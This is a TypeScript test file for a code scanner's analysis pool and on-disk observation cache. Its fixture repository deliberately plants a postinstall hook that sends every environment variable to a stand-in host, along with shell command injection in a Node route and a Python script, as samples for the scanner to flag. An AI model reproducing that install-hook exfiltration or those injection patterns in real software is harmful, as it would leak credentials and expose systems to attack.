import assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test, type TestContext } from 'node:test';
import { memoryTree, scan, type Tree } from '@assay/engine';
import { analyseTree } from '../../src/analysis/analyse-tree.ts';
import { type ObservationMemory, openMemory, pruneMemories, standardPool } from '../../src/analysis/index.ts';
import { patiently } from './odd-pool.ts';

const pool = await standardPool({ size: 2 });
after(() => pool.close());

const FILES = {
  'package.json':
    '{"name":"shop","version":"1.0.0","scripts":{"postinstall":"node setup.js"},"dependencies":{"express":"*"}}',
  'src/server.js': `const express = require('express');
const { run } = require('./run');
const app = express();
app.get('/x', (request, response) => { run(request.query.name); response.end(); });
app.listen(3000);
`,
  'src/run.js': `const { exec } = require('child_process');
exports.run = (name) => exec('ls ' + name);
`,
  'app.py': 'import os, sys\nos.system("ls " + sys.argv[1])\n',
  'README.md': '# Shop\n\nSells things.\n',
  'setup.js': "require('https').get('https://collect.example/?e=' + JSON.stringify(process.env));\n",
  'logo.png': '\u0089PNG\r\n\u001a\n\u0000\u0000',
};

function counted(tree: Tree): Tree & { readonly reads: string[] } {
  const reads: string[] = [];
  return {
    ...tree,
    reads,
    read(entry) {
      reads.push(entry.path);
      return tree.read(entry);
    },
  };
}
async function temporaryFolder(t: TestContext): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'assay-memory-'));
  t.after(() => rm(folder, { recursive: true, force: true }));
  return folder;
}
function analysedWith(tree: Tree, memory: ObservationMemory): ReturnType<typeof analyseTree> {
  return analyseTree(pool, tree, patiently({ memory }));
}

test('processes give the very report that the engine gives in one piece', async () => {
  const { report } = await analyseTree(pool, memoryTree(FILES), patiently());

  const whole = await scan(memoryTree(FILES));
  assert.deepEqual(report, JSON.parse(JSON.stringify(whole)));
  assert.ok(report.findings.length > 0);
});

test('a second scan of an unchanged repository reads no file again and says the same', async (t) => {
  const folder = await temporaryFolder(t);
  const first = await analysedWith(memoryTree(FILES), await openMemory(folder, 'r', 'engine'));
  const tree = counted(memoryTree(FILES));

  const second = await analysedWith(tree, await openMemory(folder, 'r', 'engine'));

  assert.deepEqual(second.report, first.report);
  // Repository-wide checks may open a file to show a line of it.
  assert.ok(tree.reads.length < Object.keys(FILES).length);
});

test('what changed, and what rests on it, is looked at again', async (t) => {
  const folder = await temporaryFolder(t);
  await analysedWith(memoryTree(FILES), await openMemory(folder, 'r', 'engine'));
  const harmless = { ...FILES, 'src/run.js': 'exports.run = (name) => name.length;\n' };

  const { report } = await analysedWith(memoryTree(harmless), await openMemory(folder, 'r', 'engine'));

  assert.deepEqual(report, JSON.parse(JSON.stringify(await scan(memoryTree(harmless)))));
});

test('another repository and another engine remember nothing of it', async (t) => {
  const folder = await temporaryFolder(t);
  await analysedWith(memoryTree(FILES), await openMemory(folder, 'r', 'engine'));

  for (const memory of [await openMemory(folder, 'other', 'engine'), await openMemory(folder, 'r', 'newer')]) {
    const tree = counted(memoryTree(FILES));
    await analysedWith(tree, memory);
    assert.ok(Object.keys(FILES).every((path) => tree.reads.includes(path)));
  }
});

test('a damaged memory is no memory', async (t) => {
  const folder = await temporaryFolder(t);
  await analysedWith(memoryTree(FILES), await openMemory(folder, 'r', 'engine'));
  const name = (await readdir(folder, { recursive: true })).find((path) => path.endsWith('.zst'));
  const path = join(folder, name ?? '');
  const bytes = await readFile(path);
  bytes[bytes.length - 9] = (bytes[bytes.length - 9] ?? 0) ^ 255;
  await writeFile(path, bytes);

  const { report } = await analysedWith(memoryTree(FILES), await openMemory(folder, 'r', 'engine'));

  assert.equal(report.files.length, Object.keys(FILES).length);
});

test('memories that were longest not used are forgotten first', async (t) => {
  const folder = await temporaryFolder(t);
  for (const repository of ['old', 'middle', 'new']) {
    await analysedWith(memoryTree(FILES), await openMemory(folder, repository, 'engine'));
  }
  const paths = (await readdir(folder, { recursive: true })).filter((path) => path.endsWith('.zst'));
  for (const [day, path] of paths.entries()) await utimes(join(folder, path), day, day);
  const sizes = await Promise.all(paths.map(async (path) => (await stat(join(folder, path))).size));

  await pruneMemories(folder, (sizes[1] ?? 0) + (sizes[2] ?? 0));

  const left = (await readdir(folder, { recursive: true })).filter((path) => path.endsWith('.zst'));
  assert.deepEqual(left.toSorted(), paths.slice(1).toSorted());
});

test('an empty tree has a report', async () => {
  const { report } = await analyseTree(pool, memoryTree({}), patiently());

  assert.equal(report.coverage.filesTotal, 0);
});
